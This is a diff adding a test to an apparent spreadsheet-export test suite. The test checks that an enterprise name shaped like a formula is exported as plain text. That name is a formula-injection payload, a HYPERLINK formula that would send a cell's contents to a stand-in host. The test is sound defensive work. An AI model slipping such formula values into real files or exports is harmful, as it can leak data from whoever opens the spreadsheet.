@@ -181,6 +181,17 @@ class ExportTests(OfficerListTestCase):
         draft = by_period[("测试企业乙", "T0")]
         self.assertEqual((draft["total"], draft["level"], draft["B"]), (None, None, None))
 
+    def test_it_exports_a_name_that_looks_like_a_formula_as_text(self):
+        name = '=HYPERLINK("http://x/?"&B2,"点击")'
+        make_assessment(make_enterprise(self.home_region, name), middling(), period="T0")
+        response = self.get(self.district, EXPORT)
+        sheet = load_workbook(BytesIO(response.content)).active
+        row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == name)
+
+        self.assertEqual(row[0].data_type, "s")
+        total = row[COLUMNS.index("total")]
+        self.assertEqual((total.data_type, total.value), ("n", 65.25))
+
     def test_it_exports_what_the_filters_leave(self):
         rows = self.rows(self.get(self.city, EXPORT, level="0"))
         self.assertEqual([row[0] for row in rows[1:]], ["江北测试企业"])
